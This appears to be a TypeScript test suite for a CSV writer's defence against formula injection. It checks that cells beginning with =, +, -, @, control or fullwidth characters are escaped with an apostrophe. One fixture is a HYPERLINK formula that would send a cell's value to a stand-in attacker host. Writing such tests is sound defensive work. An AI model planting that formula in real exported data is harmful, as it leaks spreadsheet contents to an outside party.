import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { csvRecord } from '../../src/node/csv.ts';

function cellsOf(record: string): readonly string[] {
  const [cells = []] = parse(record, { relax_column_count: true });
  return cells;
}

const hostile = fc.oneof(
  fc.constantFrom('\r', '\n', '\t', '\0', '"', "'", ',', '=', '+', '-', '@', '＝'),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
);

describe('csvRecord()', () => {
  it('quotes by RFC 4180', () => {
    assert.equal(
      csvRecord(['a,b', 'say "x"', 'two\r\nlines', 'plain', '']),
      '"a,b","say ""x""","two\r\nlines",plain,\r\n',
    );
  });

  it('writes what a spreadsheet would run as text', () => {
    const formulas = [
      '=1+1',
      '+62812',
      '-1',
      '@SUM(A1)',
      '\tx',
      '\rx',
      '\nx',
      '\0x',
      '＝1',
      '＋1',
      '－1',
      '＠x',
    ];
    for (const formula of formulas) {
      assert.deepEqual(cellsOf(csvRecord([formula, 'x'])), [`'${formula}`, 'x']);
    }
    const link = '=HYPERLINK("http://evil.example?"&A1)';
    assert.equal(cellsOf(csvRecord([link]))[0], `'${link}`);
  });

  it('leaves numbers, booleans and nothing alone', () => {
    assert.equal(csvRecord([-1, 2, true, null, undefined]), '-1,2,true,,\r\n');
  });

  it('gives every text back, and none as a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: hostile }), { minLength: 2 }), (texts) => {
        const cells = cellsOf(csvRecord(texts));
        assert.equal(cells.length, texts.length);
        texts.forEach((text, i) => assert([text, `'${text}`].includes(cells[i] ?? '')));
        for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r\n\0＝＋－＠]/);
      }),
    );
  });
});
